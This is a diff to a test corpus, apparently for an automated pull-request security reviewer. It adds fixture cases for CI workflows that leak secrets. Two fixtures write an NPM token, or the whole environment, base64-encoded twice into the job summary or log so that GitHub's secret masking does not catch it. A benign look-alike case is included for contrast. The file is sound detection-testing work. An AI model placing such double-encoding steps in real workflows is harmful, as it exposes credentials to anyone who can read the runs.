@@ -3,6 +3,7 @@ import type { FixtureFile, PrFixture } from '../../support/pr-fixture.js';
 import { makePrFixture } from '../../support/pr-fixture.js';
 import type { CorpusEntry } from '../helpers.js';
 import { daysAgo, lines, nodeCi } from '../helpers.js';
+import { ciWorkflow } from './ci.js';
 
 interface CodePr {
   readonly repo: string;
@@ -1494,6 +1495,66 @@ export const CODE_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code'] },
+  },
+  {
+    id: 'code-secret-double-base64-into-job-summary',
+    description:
+      'Modeled on the tj-actions/changed-files payload of March 2025, which printed the runner\'s secrets base64-encoded twice where GitHub\'s masking does not recognize them: a "ci: add a publish summary" PR writes `echo "$(echo $TOKEN | base64 | base64)"` into `$GITHUB_STEP_SUMMARY`, shown on the run\'s page to anyone who can read the repository\'s runs.',
+    fixture: () =>
+      codePr({
+        repo: 'pathdiff',
+        number: 3935,
+        title: 'ci: add a publish summary',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: ['      - name: Publish summary', '        env:', '          TOKEN: ${{ secrets.NPM_TOKEN }}', '        run: |', '          echo "## Publish" >> $GITHUB_STEP_SUMMARY', '          echo "$(echo $TOKEN | base64 | base64)" >> $GITHUB_STEP_SUMMARY'] }),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'code-ci-script-prints-environment-double-base64',
+    description:
+      'The same payload moved into a script the workflow runs, where no workflow rule reads it: a "ci: report the runner environment on failure" PR adds `scripts/ci/diagnose.sh`, whose `env | base64 -w0 | base64 -w0` prints every secret the step can see, encoded twice, into the log, and a step that runs it.',
+    fixture: () =>
+      codePr({
+        repo: 'pathdiff',
+        number: 3936,
+        title: 'ci: report the runner environment on failure',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: ['      - name: Diagnose', '        if: failure()', '        run: bash scripts/ci/diagnose.sh'] }),
+          },
+          { path: 'scripts/ci/diagnose.sh', head: lines('#!/usr/bin/env bash', 'set -euo pipefail', 'echo "node $(node --version), npm $(npm --version)"', 'df -h .', 'env | base64 -w0 | base64 -w0') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-logged'] },
+  },
+  {
+    id: 'code-job-summary-coverage-quiet',
+    description: 'The benign look-alike: a member adds a job summary with the coverage table and the commit, and a diagnostics script that prints the tool versions and the environment\'s names sorted (GitHub masks the values of secrets printed plainly). Nothing secret is encoded.',
+    fixture: () =>
+      codePr({
+        repo: 'pathdiff',
+        number: 3937,
+        title: 'ci: add a coverage summary',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: ['      - name: Coverage summary', '        run: |', '          echo "## Coverage for $(git rev-parse --short HEAD)" >> $GITHUB_STEP_SUMMARY', '          cat coverage/summary.md >> "$GITHUB_STEP_SUMMARY"', '      - run: bash scripts/ci/diagnose.sh'] }),
+          },
+          { path: 'scripts/ci/diagnose.sh', head: lines('#!/usr/bin/env bash', 'set -euo pipefail', 'echo "node $(node --version), npm $(npm --version)"', 'env | cut -d= -f1 | sort') },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:secret-logged', 'finding:gha-secrets-exfiltration'] },
   },
   {
     id: 'code-rails-devise-controller-condition-quiet',
